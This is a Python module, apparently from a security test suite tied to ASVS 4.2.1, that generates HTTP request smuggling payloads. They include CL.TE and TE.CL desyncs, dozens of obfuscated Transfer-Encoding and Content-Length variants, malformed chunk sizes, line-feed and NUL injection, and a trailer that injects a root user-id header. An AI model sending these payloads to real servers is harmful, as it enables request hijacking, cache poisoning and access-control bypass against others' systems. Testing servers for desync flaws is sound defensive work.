"""Requests that two servers could take for one or for two (A6, ASVS 4.2.1).

Each holds a second request that a server would see which finds the end elsewhere. `{hidden}` is
its target, `{host}` the host of both, `{cookie}` the sender's own session.
"""

from collections.abc import Iterator

_HIDDEN = b"GET {hidden} HTTP/1.1\r\nHost: {host}\r\nX-Smuggled: 1\r\n\r\n"
_OPEN = b"GET {hidden} HTTP/1.1\r\nHost: {host}\r\nX-Smuggled: "
"""The start of a request that would swallow whatever comes next on the connection."""
_START = b"POST /outer HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\nOrigin: https://{host}\r\n"
_TEXT = b"Content-Type: text/plain\r\n"

CODINGS = (
    *(b"Transfer-Encoding: chunked", b"transfer-encoding: CHUNKED", b"Transfer-Encoding:chunked"),
    *(
        b"Transfer-Encoding : chunked",
        b" Transfer-Encoding: chunked",
        b"Transfer-Encoding\t: chunked",
    ),
    *(b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked, identity"),
    *(b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: x, chunked"),
    *(b"Transfer-Encoding: chunked;x=1", b'Transfer-Encoding: "chunked"'),
    *(
        b"Transfer-Encoding:\tchunked",
        b"Transfer-Encoding:\x0bchunked",
        b"Transfer-Encoding: chunked\x0b",
    ),
    *(b"Transfer-Encoding: chunk", b"Transfer-Encoding:", b"Transfer-Encoding: chunked\0"),
    *(
        b"Transfer_Encoding: chunked",
        b"Transfer-Encoding\0: chunked",
        b"X: y\nTransfer-Encoding: chunked",
    ),
    *(b"X: y\rTransfer-Encoding: chunked", b"Transfer-Encoding:\r\n chunked"),
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"TE: chunked\r\nConnection: TE",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
)
LENGTHS = (
    *(b"+{n}", b"-{n}", b"0x{n}", b"{n}, {n}", b"{n} 0", b"{n}.0", b"{n};", b"\t{n}\x0b", b""),
    *(b"{n}\r\nContent-Length: 0", b"0\r\nContent-Length: {n}", b"0{n}", b"99999999999999999999"),
)
SIZES = (
    *(b"0x5", b"+5", b"-5", b"5;a=b", b'5;a="\r\n0\r\n\r\n"', b"5;a\nb", b"5 ;a", b"5\n", b"5\r"),
    *(b"fffffffffffffffff5", b"5_", b" 5", b"\t5", b"", b"5\x00", b"5\xa0", b"00000000000000005"),
)


def payloads() -> Iterator[tuple[str, bytes]]:
    """Give each payload with what it is, as bytes with the marks above."""
    for coding in CODINGS:
        yield f"length before {coding!r}", _length_wins(coding, _HIDDEN)
        yield f"{coding!r} before length", _coding_wins(coding, _OPEN)
    for length in LENGTHS:
        yield f"length {length!r}", _of_length(length)
    for size in SIZES:
        yield f"chunk size {size!r}", _of_size(size)
    yield from _lines()


def _length_wins(coding: bytes, hidden: bytes) -> bytes:
    """CL.TE: by the length all of it is the body; by the coding the body ends at once."""
    body = b"0\r\n\r\n" + hidden
    return _START + _TEXT + b"Content-Length: {n}\r\n" + coding + b"\r\n\r\n" + _mark(body)


def _coding_wins(coding: bytes, hidden: bytes) -> bytes:
    """TE.CL: by the coding all of it is the body; by the length a request stands behind."""
    chunk = b"%x\r\n" % (len(hidden) + 60) + hidden
    return _START + _TEXT + b"Content-Length: 4\r\n" + coding + b"\r\n\r\n" + chunk


def _of_length(length: bytes) -> bytes:
    return _START + _TEXT + b"Content-Length: " + length + b"\r\n\r\n" + _mark(_HIDDEN)


def _of_size(size: bytes) -> bytes:
    body = size + b"\r\nabcde\r\n0\r\n\r\n" + _HIDDEN
    return _START + _TEXT + b"Transfer-Encoding: chunked\r\n\r\n" + body


def _lines() -> Iterator[tuple[str, bytes]]:
    bare = _START.replace(b"\r\n", b"\n")
    chunked = _START + _TEXT + b"Transfer-Encoding: chunked\r\n\r\n"
    get = b"GET /outer HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\n"
    yield "line feeds alone", bare + b"Content-Length: {n}\n\n" + _mark(_HIDDEN)
    yield "line feeds in chunks", chunked + b"5\nabcde\n0\n\n" + _HIDDEN
    yield "a line feed behind a chunk", chunked + b"5\r\nabcde\n0\r\n\r\n" + _HIDDEN
    yield "no end of a chunk", chunked + b"5\r\nabcde0\r\n\r\n" + _HIDDEN
    yield "a trailer", chunked + b"0\r\nContent-Length: 9\r\nX-Auth-User-Id: root\r\n\r\n" + _HIDDEN
    yield "a return in a field", get + b"X: a\rGET {hidden} HTTP/1.1\r\n\r\n"
    yield "a NUL in a field", get + b"X: a\0\r\n\r\n" + _HIDDEN
    yield "a GET with a body", get + b"Content-Length: {n}\r\n\r\n" + _mark(_HIDDEN)
    yield "a GET in chunks", get + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _HIDDEN
    yield (
        "leave to send",
        _START + b"Expect: 100-continue\r\nContent-Length: {n}\r\n\r\n" + _mark(_HIDDEN),
    )
    yield "an upgrade", get + b"Upgrade: websocket\r\nContent-Length: {n}\r\n\r\n" + _mark(_HIDDEN)
    yield "HTTP/1.0 in chunks", chunked.replace(b"1.1", b"1.0", 1) + b"0\r\n\r\n" + _HIDDEN
    yield "HTTP/0.9", b"GET /outer\r\n" + _HIDDEN
    yield "encoded line end in the target", get.replace(b"/outer", b"/%0d%0aX:%20y") + b"\r\n"
    yield "a line end in the target", get.replace(b"/outer", b"/ HTTP/1.1\r\nX: y", 1) + b"\r\n"


def _mark(body: bytes) -> bytes:
    return b"{body}" + body


def filled(payload: bytes, *, host: str, cookie: str, hidden: str) -> bytes:
    """Put a payload's marks right; the length is that of what stands behind the head."""
    text = payload.replace(b"{host}", host.encode()).replace(b"{cookie}", cookie.encode())
    text = text.replace(b"{hidden}", hidden.encode())
    head, _, body = text.partition(b"{body}")
    return head.replace(b"{n}", b"%d" % len(body)) + body
